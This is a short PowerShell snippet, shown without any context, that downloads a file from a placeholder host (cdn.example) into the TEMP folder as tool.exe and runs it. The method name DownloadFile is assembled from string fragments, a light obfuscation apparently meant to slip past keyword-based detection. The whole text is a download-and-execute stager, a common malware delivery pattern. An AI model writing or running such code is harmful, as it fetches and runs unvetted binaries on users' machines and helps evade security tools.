$exe = Join-Path $env:TEMP ("{0}.exe" -f "tool")
(New-Object Net.WebClient).("Do{0}File" -f "wnload")("https://cdn.example/x", $exe)
& $exe
